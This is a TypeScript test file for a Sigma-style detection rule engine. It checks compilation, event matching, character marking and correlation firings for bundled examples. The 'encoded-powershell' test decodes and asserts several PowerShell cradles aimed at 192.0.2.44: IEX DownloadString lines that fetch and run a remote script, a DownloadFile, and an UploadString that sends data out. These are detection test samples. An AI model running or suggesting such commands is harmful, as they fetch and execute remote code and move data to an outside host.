import { describe, expect, test } from 'vitest';
import type { EventSlice } from '../../src/event';
import { readEvents } from '../../src/event';
import { lint } from '../../src/language';
import { correlate, Evaluator, eventsOf, explainWith, marksOf, type Verdict } from '../../src/match';
import { type Collection, compileCollection } from '../../src/rule';
import { fingerprint } from './fingerprint';
import { type Example, FIRST_EXAMPLE, isExample, isExampleId, isExampleText, loadExample } from './index';
import { TEXTS } from './texts';

type Named = Example & { readonly id: string };
const EXAMPLES: readonly Named[] = Object.entries<Example>(TEXTS).map(([id, one]) => ({ id, ...one }));

/** How `Example.expected` writes each verdict. */
const LETTERS: Readonly<Record<Verdict | 'error', string>> = {
  match: 'm',
  'no match': '-',
  'not applicable': 'o',
  error: 'x',
};

/** The keys of each kind of document, in order. `name` only if another document refers to it. */
const HEADERS = {
  detection: [
    'title',
    'id',
    'status',
    'description',
    'references',
    'author',
    'date',
    'tags',
    'logsource',
    'detection',
    'falsepositives',
    'level',
  ],
  correlation: [
    'title',
    'id',
    'status',
    'description',
    'author',
    'date',
    'correlation',
    'falsepositives',
    'level',
  ],
  filter: ['title', 'id', 'status', 'description', 'author', 'date', 'logsource', 'filter'],
};

describe.each(EXAMPLES.map((example) => [example.id, example] as const))('%s', (_, example) => {
  test('compiles, and the checks find nothing but what it is about', () => {
    const collection = compile(example);
    const found = lint(collection);
    expect(found.map(({ code }) => code)).toEqual(example.found ?? []);
    expect(collection.plans.length).toBeGreaterThan(0);
  });

  test('gives each event its verdict, some of which are matches and some are not', () => {
    const { evaluator, slices } = open(example);
    const verdicts = slices.map((slice) => (slice.event ? evaluator.verdict(slice.event) : 'error'));
    expect(verdicts.map((verdict) => LETTERS[verdict]).join('')).toBe(example.expected);
    if (example.found) return;
    expect(verdicts).toEqual(expect.arrayContaining(['match', 'no match']));
  });

  test('marks characters on both sides in each event that matches', () => {
    const { evaluator, slices } = open(example);
    const marks = slices.flatMap(({ event }) =>
      event && evaluator.verdict(event) === 'match' ? [marksOf(explainWith(evaluator, event))] : [],
    );
    expect(marks.length).toBeGreaterThan(0);
    for (const those of marks)
      expect(those.some(({ rule, text }) => rule.end > rule.start && text.end > text.start)).toBe(true);
  });

  test('fires what it says', () => {
    const collection = compile(example);
    const read = readEvents(example.events).slices.flatMap((slice) => slice.event ?? []);
    const fired = correlate(collection, read).map(({ firings }, i) => [
      collection.correlations[i]!.title,
      firings.map((firing) => eventsOf(firing).map((event) => event + 1)),
    ]);
    expect(Object.fromEntries(fired)).toEqual(example.fires ?? {});
  });

  test('is read without a doubt, and no two of its events are the same', () => {
    const { warnings, slices } = readEvents(example.events);
    expect(warnings).toEqual([]);
    const texts = slices.map(({ range }) => example.events.slice(range.start, range.end));
    expect(new Set(texts).size).toBe(texts.length);
    expect(example.event ?? 1).toBeLessThanOrEqual(slices.length);
  });

  test('is known without its texts, and no longer once they are edited', () => {
    expect(isExample(example.rule)).toBe(true);
    expect(isExample(example.rule, example.events)).toBe(true);
    expect(isExampleText(example.events)).toBe(true);
    expect(isExample(`${example.rule} `)).toBe(false);
    expect(isExample(example.rule, example.events.replace('1', '2'))).toBe(false);
  });

  test('has a line of at most 80 characters, a place for the cursor and whole headers', () => {
    expect(example.teaches.length).toBeLessThanOrEqual(80);
    expect(example.rule.split(example.at)).toHaveLength(2);
    const { documents } = compile(example);
    const texts = example.rule.split(/^---$/m);
    const keys = texts.map((text) => [...text.matchAll(/^([a-z]+):/gm)].map((m) => m[1] ?? ''));
    expect(keys.map((own) => own.filter((key) => key !== 'name'))).toEqual(
      documents.map(({ kind }) => HEADERS[kind]),
    );
  });

  test('opens with the cursor at its place and with what is expected of its events and correlations', async () => {
    const opened = (await loadExample(example.id))!;
    expect(opened.rule.startsWith(example.at, opened.cursor)).toBe(true);
    const { slices } = readEvents(example.events);
    const expectations = new Map(Object.entries(opened.expectations));
    const told = slices.map(({ range }) =>
      expectations.get(fingerprint(example.events.slice(range.start, range.end))),
    );
    const wanted = [...example.expected].map((one) =>
      one === 'x' ? undefined : one === 'm' ? 'match' : 'no match',
    );
    expect(told).toEqual(wanted);
    const keys = slices.map(({ range }) => fingerprint(example.events.slice(range.start, range.end)));
    const numbers = opened.firings.map(({ of, count, members }) => {
      expect(count).toBe(members?.length ?? 0);
      return [of, members?.map((list) => list.map((key) => keys.indexOf(key) + 1)) ?? []];
    });
    expect(Object.fromEntries(numbers)).toEqual(example.fires ?? {});
  });
});

test('names, titles and rule ids are unique', () => {
  const ID = /^id: ([0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12})$/gm;
  const documents = EXAMPLES.flatMap((e) => compileCollection(e.rule).documents);
  const ids = EXAMPLES.flatMap((e) => [...e.rule.matchAll(ID)].map((m) => m[1]));
  expect(new Set(EXAMPLES.map((e) => e.id)).size).toBe(EXAMPLES.length);
  expect(new Set(EXAMPLES.map((e) => e.title)).size).toBe(EXAMPLES.length);
  expect(new Set(ids).size).toBe(documents.length);
  expect(FIRST_EXAMPLE).toEqual(EXAMPLES[0]);
  expect(EXAMPLES.map((e) => isExampleId(e.id))).toEqual(EXAMPLES.map(() => true));
  expect([isExampleId('toString'), isExampleId('')]).toEqual([false, false]);
});

test('certificate-export: the characters that are marked, on both sides', () => {
  expect(marked('certificate-export')).toEqual([
    { event: 1, whole: true, rule: 'Export-PfxCertificate ', text: 'Export-PfxCertificate ', at: 176 },
    { event: 3, whole: true, rule: 'Export-Certificate ', text: 'export-certificate ', at: 645 },
    { event: 4, whole: true, rule: 'Export-PfxCertificate ', text: 'Export-PfxCertificate ', at: 935 },
    { event: 4, whole: true, rule: '\\CcmExec.exe', text: '\\\\CcmExec.exe', at: 1024 },
  ]);
});

test('encoded-powershell: the three alignments, each in an event of its own', () => {
  const encoded = marked('encoded-powershell').filter((m) => m.rule.includes('Net.WebClient'));
  expect(encoded.map((m) => [m.event, m.text])).toEqual([
    [1, 'TgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdA'],
    [2, '4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA'],
    [3, 'OAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0A'],
  ]);
  const { slices } = open(byId('encoded-powershell'));
  const commands = slices.map((s) =>
    Buffer.from(String(s.event?.get('CommandLine')).split(' ').at(-1) ?? '', 'base64').toString('utf16le'),
  );
  expect(commands.slice(0, 4)).toEqual([
    "$wc=New-Object Net.WebClient; $wc.DownloadFile('http://192.0.2.44/a.zip','a.zip')",
    "& { (New-Object System.Net.WebClient).UploadString('http://192.0.2.44/', 'hi') }",
    "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/p.ps1')",
    "IEX (new-object net.webclient).downloadstring('http://192.0.2.44/p.ps1')",
  ]);
});

test('download-regex: what each group caught', () => {
  const groups = marked('download-regex').filter((m) => m.kind === 'group');
  expect(groups.map((m) => [m.event, m.text])).toEqual([
    [1, '192.0.2.44'],
    [1, '8080'],
    [1, 'tool.exe'],
    [2, '198.51.100.9'],
    [2, 'a.dll'],
    [5, '192.0.2.44'],
    [5, 'one.ps1'],
    [5, '192.0.2.44'],
    [5, 'two.ps1'],
  ]);
});

test('icacls-wildcards: what each wildcard stood for', () => {
  const wildcards = marked('icacls-wildcards').filter((m) => m.kind === 'wildcard');
  expect(wildcards.map((m) => [m.event, m.rule, m.text])).toEqual([
    [1, '?', 'C'],
    [1, '*', 'Data'],
    [2, '?', 'D'],
    [2, '*', 'Shares\\\\Public /T'],
    [6, '?', 'E'],
  ]);
});

test('certutil-windash: which dash each event has', () => {
  const dashes = marked('certutil-windash').filter((m) => m.kind === 'dash');
  expect(dashes.map((m) => [m.event, m.text])).toEqual([
    [1, '-'],
    [2, '/'],
    [2, '/'],
    [3, '\u2013'],
    [3, '/'],
    [4, '\u2015'],
    [5, '/'],
  ]);
});

test('failed-logons: what fires, over which events, and what counts nowhere', () => {
  const { rule, events } = byId('failed-logons');
  const read = readEvents(events).slices.flatMap((s) => s.event ?? []);
  const results = correlate(compileCollection(rule), read);
  expect(
    results.map(({ firings }) =>
      firings.map((f) => [
        f.key.TargetUserName,
        f.members.map((m) => m.event + 1),
        f.value.map((v) => v.value),
      ]),
    ),
  ).toEqual([[['ana', [1, 2, 5, 7], [1, 2, 3, 4]]], [['ana', [7, 9], [1, 2]]]]);
  expect(results[0]?.leftOut).toEqual([{ event: 5, reason: 'no timestamp' }]);
});

test('new-account-filter: the condition that results', () => {
  const { plans, filters } = compileCollection(byId('new-account-filter').rule);
  expect(plans[0]?.conditionText).toBe('selection and not onboarding_creates_accounts.selection');
  expect(filters[0]?.appliesTo).toEqual([0]);
});

interface Shown {
  readonly event: number;
  readonly whole: boolean;
  readonly rule: string;
  readonly text: string;
  readonly at: number;
  readonly kind?: string;
}

/** The marks of an example as the user sees them: events counted from 1, characters instead of ranges. */
function marked(id: string): Shown[] {
  const example = byId(id);
  const { evaluator, slices } = open(example);
  return slices.flatMap(({ event }) =>
    event
      ? marksOf(explainWith(evaluator, event)).map((mark) => ({
          event: mark.event + 1,
          whole: mark.whole,
          rule: example.rule.slice(mark.rule.start, mark.rule.end),
          text: example.events.slice(mark.text.start, mark.text.end),
          at: mark.text.start,
          ...(mark.kind === 'match' ? {} : { kind: mark.kind }),
        }))
      : [],
  );
}

function compile({ rule, placeholders = {} }: Example): Collection {
  return compileCollection(rule, { placeholders });
}

function open(example: Named): { evaluator: Evaluator; slices: readonly EventSlice[] } {
  const plan = compile(example).plans[0]?.plan;
  if (!plan) throw new Error(`${example.id} does not compile`);
  return { evaluator: new Evaluator(plan), slices: readEvents(example.events).slices };
}

function byId(id: string): Named {
  const example = EXAMPLES.find((e) => e.id === id);
  if (!example) throw new Error(`no example ${id}`);
  return example;
}
